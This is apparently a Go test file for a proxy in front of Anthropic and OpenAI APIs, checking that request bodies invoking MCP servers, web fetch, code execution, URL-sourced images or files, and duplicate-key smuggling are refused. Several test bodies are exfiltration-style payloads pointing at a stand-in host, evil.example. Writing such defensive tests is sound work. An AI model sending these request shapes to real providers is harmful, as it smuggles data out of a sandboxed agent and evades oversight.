package proxy

import (
	"net/http"
	"strings"
	"testing"
)

// TestProxyRefusesExfiltratingBodies is THREATS E10: request shapes that
// make the provider fetch, run or store something for the agent are
// refused before anything reaches the upstream.
func TestProxyRefusesExfiltratingBodies(t *testing.T) {
	msgs := `"messages":[{"role":"user","content":"hi"}]`
	tests := []struct {
		name     string
		provider Provider
		body     string
		want     int
	}{
		{"mcp connector", Anthropic, `{` + msgs + `,"mcp_servers":[{"type":"url","url":"https://evil.example/sse","name":"x"}]}`, 403},
		{"mcp connector, other case", Anthropic, `{` + msgs + `,"MCP_Servers":[]}`, 403},
		{"mcp connector, escaped key", Anthropic, `{` + msgs + `,"mcp\u005fservers":[]}`, 403},
		{"code execution container", Anthropic, `{` + msgs + `,"container":"container_1"}`, 403},
		{"web search tool", Anthropic, `{` + msgs + `,"tools":[{"type":"web_search_20250305","name":"web_search"}]}`, 403},
		{"web fetch tool", Anthropic, `{` + msgs + `,"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]}`, 403},
		{"code execution tool", Anthropic, `{` + msgs + `,"tools":[{"type":"code_execution_20250522","name":"code_execution"}]}`, 403},
		{"computer tool", Anthropic, `{` + msgs + `,"tools":[{"type":"computer_20250124","name":"computer"}]}`, 403},
		{"mcp toolset", Anthropic, `{` + msgs + `,"tools":[{"type":"mcp_toolset","mcp_server_name":"x"}]}`, 403},
		{"tool that is not an object", Anthropic, `{` + msgs + `,"tools":["web_search"]}`, 403},
		{"image from a URL", Anthropic, `{"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://evil.example/?d=secret"}}]}]}`, 403},
		{"document from a URL in a tool result", Anthropic, `{"messages":[{"role":"user","content":[{"type":"tool_result","tool_use_id":"t","content":[{"type":"document","source":{"type":"URL","url":"https://evil.example/"}}]}]}]}`, 403},
		{"stored file", Anthropic, `{"messages":[{"role":"user","content":[{"type":"document","source":{"type":"file","file_id":"file_1"}}]}]}`, 403},
		{"duplicate tools key smuggles a server tool", Anthropic, `{` + msgs + `,"tools":[],"tools":[{"type":"web_search_20250305","name":"w"}]}`, 400},
		{"duplicate key deep inside", Anthropic, `{"messages":[{"role":"user","role":"assistant","content":"x"}]}`, 400},
		{"two JSON values", Anthropic, `{` + msgs + `} {"mcp_servers":[]}`, 400},
		{"not JSON", Anthropic, `mcp_servers=1`, 400},
		{"not an object", Anthropic, `[{"mcp_servers":[]}]`, 400},
		{"invalid UTF-8", Anthropic, "{\"messages\":\"\xff\"}", 400},
		{"too deep", Anthropic, `{"a":` + strings.Repeat("[", 200) + strings.Repeat("]", 200) + `}`, 400},
		{"openai mcp tool", OpenAI, `{"input":"x","tools":[{"type":"mcp","server_url":"https://evil.example","server_label":"x"}]}`, 403},
		{"openai web search", OpenAI, `{"input":"x","tools":[{"type":"web_search"}]}`, 403},
		{"openai web search preview", OpenAI, `{"input":"x","tools":[{"type":"web_search_preview"}]}`, 403},
		{"openai file search", OpenAI, `{"input":"x","tools":[{"type":"file_search","vector_store_ids":["vs_1"]}]}`, 403},
		{"openai code interpreter", OpenAI, `{"input":"x","tools":[{"type":"code_interpreter","container":{"type":"auto"}}]}`, 403},
		{"openai image generation", OpenAI, `{"input":"x","tools":[{"type":"image_generation"}]}`, 403},
		{"openai computer use", OpenAI, `{"input":"x","tools":[{"type":"computer_use_preview","display_width":1,"display_height":1,"environment":"linux"}]}`, 403},
		{"openai tool without type", OpenAI, `{"input":"x","tools":[{"name":"shell"}]}`, 403},
		{"openai hosted tool_choice", OpenAI, `{"input":"x","tool_choice":{"type":"web_search_preview"}}`, 403},
		{"openai background", OpenAI, `{"input":"x","background":true}`, 403},
		{"openai image by URL", OpenAI, `{"input":[{"role":"user","content":[{"type":"input_image","image_url":"https://evil.example/?d=1"}]}]}`, 403},
		{"openai file by URL", OpenAI, `{"input":[{"role":"user","content":[{"type":"input_file","file_url":"https://evil.example/x.pdf"}]}]}`, 403},
		{"openai stored file", OpenAI, `{"input":[{"role":"user","content":[{"type":"input_file","file_id":"file_1"}]}]}`, 403},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			tp := newTestProxy(t, tt.provider, nil)
			target := "/v1/messages"
			if tt.provider == OpenAI {
				target = "/v1/responses"
			}
			if got := tp.post(t, target, tt.body, nil).StatusCode; got != tt.want {
				t.Errorf("proxy(%s) = %d, want %d", tt.body, got, tt.want)
			}
			if n := len(tp.up.requests()); n != 0 {
				t.Errorf("upstream received %d requests, want 0", n)
			}
		})
	}
}

// TestProxyAllowsNormalRequests: the shapes Claude Code and Codex send for
// plain inference pass, data: images and tool-call inputs included.
func TestProxyAllowsNormalRequests(t *testing.T) {
	tests := []struct {
		name     string
		provider Provider
		body     string
	}{
		{"claude with client tools", Anthropic, okAnthropicBody},
		{"tool_use input is model data", Anthropic, `{"messages":[{"role":"assistant","content":[{"type":"tool_use","id":"t","name":"Read","input":{"source":{"type":"url"},"file_id":"x"}}]}]}`},
		{"base64 image", Anthropic, `{"messages":[{"role":"user","content":[{"type":"image","source":{"type":"base64","media_type":"image/png","data":"iVBO"}}]}]}`},
		{"codex with function tools", OpenAI, okOpenAIBody},
		{"codex data image", OpenAI, `{"input":[{"role":"user","content":[{"type":"input_image","image_url":"data:image/png;base64,iVBO"}]}],"tool_choice":"auto","background":false}`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			tp := newTestProxy(t, tt.provider, nil)
			target := "/v1/messages"
			if tt.provider == OpenAI {
				target = "/v1/responses"
			}
			if got := tp.post(t, target, tt.body, nil).StatusCode; got != http.StatusOK {
				t.Errorf("proxy(%s) = %d, want 200", tt.body, got)
			}
			if n := len(tp.up.requests()); n != 1 {
				t.Errorf("upstream received %d requests, want 1", n)
			}
		})
	}
}
